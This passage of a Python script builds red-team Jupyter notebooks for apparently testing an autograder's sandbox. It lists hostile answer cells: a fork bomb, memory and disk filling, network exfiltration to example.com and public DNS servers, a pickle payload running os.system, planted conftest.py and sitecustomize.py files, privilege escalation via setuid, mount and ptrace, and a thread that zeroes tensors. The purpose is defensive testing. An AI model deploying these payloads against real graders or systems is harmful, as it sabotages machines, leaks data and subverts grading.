    for name in ("SIGALRM", "SIGTERM", "SIGXCPU", "SIGINT", "SIGHUP", "SIGUSR1"):
        signal.signal(getattr(signal, name), signal.SIG_IGN)
    signal.alarm(0)
    while True:
        pass
"""),
        ),
    ),
    Attack(
        "thread_acts_later",
        "a thread started while loading that later zeroes results and exits the process",
        ("wrong values", "exited", "thread", "not found"),
        (
            attack(
                """
import gc, os, threading, time
def _saboteur():
    time.sleep(0.2)
    for _ in range(50):
        for obj in gc.get_objects():
            if type(obj) is torch.Tensor:
                try:
                    obj.zero_()
                except Exception:
                    pass
        time.sleep(0.01)
    os._exit(0)
threading.Thread(target=_saboteur, daemon=True).start()
"""
                + WRONG
            ),
        ),
    ),
    Attack(
        "fork_bomb",
        "fork until the machine gives up",
        "Timed out",
        (
            attack("""
import os
def flatten_view(t):
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""),
        ),
    ),
    Attack(
        "memory_bomb",
        "allocate and touch memory without end",
        ("out of memory", "Timed out"),  # a loaded machine may reach the call's deadline before the cap
        (
            attack("""
def flatten_view(t):
    hoard = []
    while True:
        hoard.append(torch.ones(64 << 20, dtype=torch.uint8))
"""),
        ),
    ),
    Attack(
        "infinite_loop",
        "never return",
        "Timed out",
        (
            attack("""
def flatten_view(t):
    while True:
        pass
"""),
        ),
    ),
    Attack(
        "infinite_loop_while_loading",
        "a top-level cell that never ends",
        "Timed out",
        (attack("while True:\n    pass\n"),),
        target=None,
    ),
    Attack(
        "disk_filling",
        "fill the scratch, /dev/shm and every writable place it can find",
        "No space left",
        (
            attack("""
import os
def flatten_view(t):
    for place in (".", "/dev/shm", "/tmp", "/var/tmp", os.path.expanduser("~")):
        for i in range(1000):
            try:
                with open(os.path.join(place, f"REDTEAM_WAS_HERE.{i}"), "wb") as f:
                    f.write(b"x" * (1 << 20))
            except OSError as error:
                last = error
                break
    raise last
"""),
        ),
    ),
    Attack(
        "output_flood",
        "flood stdout and stderr (print and raw writes), with a wrong answer",
        "wrong values",
        (
            attack(
                """
import os, sys
for _ in range(200):
    print("spam " * 20_000)
    os.write(1, b"flood" * 100_000)
    os.write(2, b"flood" * 100_000)
"""
                + WRONG
            ),
        ),
    ),
    Attack(
        "network_exfiltration",
        "send the inputs out over TCP, UDP, DNS and HTTP, then answer wrongly",
        ("Permission denied", "unreachable"),
        (
            attack("""
import socket, urllib.request
def flatten_view(t):
    attempts = [lambda: socket.getaddrinfo("example.com", 80),
                lambda: urllib.request.urlopen("http://example.com/?leak", timeout=1),
                lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)),
                lambda: socket.create_connection(("1.1.1.1", 80), timeout=1)]
    for attempt in attempts:
        try:
            attempt()
        except OSError as error:
            last = error
    raise last
"""),
        ),
    ),
    Attack(
        "ctypes_segfault",
        "dereference NULL with ctypes",
        ("crashed", "not allowed"),
        (
            attack("""
import ctypes
def flatten_view(t):
    return ctypes.string_at(0)
"""),
        ),
    ),
    Attack(
        "pickle_payload",
        "return an object whose unpickling would run a command (the otter-grader pattern)",
        "should be a Tensor",
        (
            attack("""
import os
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/REDTEAM_WAS_HERE",))
def flatten_view(t):
    return Payload()
"""),
        ),
    ),
    Attack(
        "shadow_modules_and_conftest",
        "write conftest.py, pytest.ini, torch.py and sitecustomize.py where a grader might import them",
        "wrong values",
        (
            attack(
                FIND_KIT
                + """
payload = "open('/tmp/REDTEAM_WAS_HERE', 'w').write('imported')\\n"
for place in kit_places() + [os.path.expanduser("~"), "."]:
    for name in ("conftest.py", "pytest.ini", "torch.py", "numpy.py", "sitecustomize.py", "usercustomize.py",
                 "REDTEAM_WAS_HERE.pth"):
        try:
            with open(os.path.join(place, name), "w") as f:
                f.write(payload if name.endswith(".py") else "[pytest]\\naddopts = -p no:python\\n")
        except OSError:
            pass
"""
                + WRONG
            ),
        ),
    ),
    Attack(
        "privilege_escalation",
        "setuid(0), raise hard limits, new namespaces, mount, ptrace, write /usr",
        ("wrong values", "not found"),
        (
            attack(
                """
import ctypes, os, resource
libc = ctypes.CDLL(None, use_errno=True)
for attempt in (lambda: os.setuid(0), lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
                lambda: libc.unshare(0x10000000) == 0 or (_ for _ in ()).throw(OSError()),
                lambda: libc.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0 or (_ for _ in ()).throw(OSError()),
                lambda: libc.ptrace(16, 1, 0, 0) == 0 or (_ for _ in ()).throw(OSError()),
                lambda: open("/usr/REDTEAM_WAS_HERE", "w")):
    try:
        attempt()
        print("ESCALATED", attempt)
    except (OSError, ValueError):
        pass
"""
                + WRONG
            ),
        ),
    ),
    Attack(
        "syntax_error",
        "the answer cell does not parse",
        "not found",
        (
            attack("""
def flatten_view(t)
    return t.view(-1)
"""),
        ),
    ),
    Attack(
        "renamed_function",
        "the answer renamed",
        "not found",
        (
            attack("""
def flatten_view_v2(t):
    return t.view(-1)
"""),
        ),
    ),
    Attack("deleted_cell", "the answer cell deleted", "not found", drop_target=True),
    Attack(
        "wrong_signature",
        "an extra required parameter",
        "TypeError",
        (
            attack("""
def flatten_view(t, dim):
    return t.view(-1)
"""),
        ),
    ),
    Attack(
        "hardcoded_example",
        "return the visible check cell's expected output",
        ("but it should be", "wrong values"),
        (
            attack("""
def flatten_view(t):
    return torch.tensor([0, 1, 2, 3, 4, 5])
"""),
        ),
    ),
    Attack(
        "non_utf8_notebook",
        "a notebook file that is not UTF-8",
        "not UTF-8",
        target=None,
        raw=b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "x": "\xff\xfe\xfa"}',
    ),
    Attack(
        "truncated_json",
        "a notebook cut off mid-file",
        "not valid JSON",
        target=None,
        raw=b'{"cells": [{"cell_type": "code", "source": ["def flatten_view(t):\\n", "    return t.vi',
    ),
    Attack(
        "not_a_notebook",
        "valid JSON that is not a notebook",
        "not a Jupyter notebook",
        target=None,
        raw=b'[{"flatten_view": "t.view(-1)"}]',
    ),
    *FORGERIES,
]


def _load(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


def honest_notebook() -> dict:
    """The released notebook with the solution's answers filled in, as a good student hands it in."""
    released = _load(ROOT / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    solution = _load(ROOT / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    answers = {grade_id(c): c["source"] for c in solution["cells"]}
    for cell in released["cells"]:
        if grade_id(cell).endswith("_answer") and grade_id(cell) in answers:
            cell["source"] = answers[grade_id(cell)]
    return released


def grade_id(cell: dict) -> str:
    return str(cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", ""))


def _cell(role: str, source: str) -> dict:
    return {
        "cell_type": "code",
        "execution_count": None,
        "metadata": {"redteam": role},
        "outputs": [],
        "source": source.splitlines(keepends=True),
    }


def build(item: Attack, base: dict) -> bytes:
    """The attack's notebook file."""
    if item.raw is not None:
        return item.raw
    notebook = copy.deepcopy(base)
    cells = [_cell(role, source) for role, source in item.cells]
    if item.target is None:
        notebook["cells"] += cells
    else:
        at = next(i for i, c in enumerate(notebook["cells"]) if grade_id(c) == f"{item.target}_answer")
        notebook["cells"][at : at + 1] = [] if item.drop_target else cells
    notebook["metadata"]["redteam"] = {"attack": item.name, "vector": item.vector}
    return (json.dumps(notebook, ensure_ascii=False, indent=1) + "\n").encode()


def honest_content(notebook_bytes: bytes) -> bytes | None:
    """The same notebook without its attack cells; None for a file that is no notebook."""
    try:
        notebook = json.loads(notebook_bytes.decode("utf-8"))
        notebook["cells"] = [c for c in notebook["cells"] if c.get("metadata", {}).get("redteam") != "attack"]
    except (ValueError, TypeError, KeyError, AttributeError):
        return None
    return (json.dumps(notebook, ensure_ascii=False, indent=1) + "\n").encode()


def path(item: Attack) -> Path:
    return NOTEBOOKS / f"{item.name}.ipynb"


def main() -> int:
    NOTEBOOKS.mkdir(exist_ok=True)
    base = honest_notebook()
    names = {item.name for item in ATTACKS}
    for stale in NOTEBOOKS.glob("*.ipynb"):
        if stale.stem not in names:
            stale.unlink()
    for item in ATTACKS:
        path(item).write_bytes(build(item, base))
    print(f"wrote {len(ATTACKS)} notebooks to {NOTEBOOKS.relative_to(ROOT)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
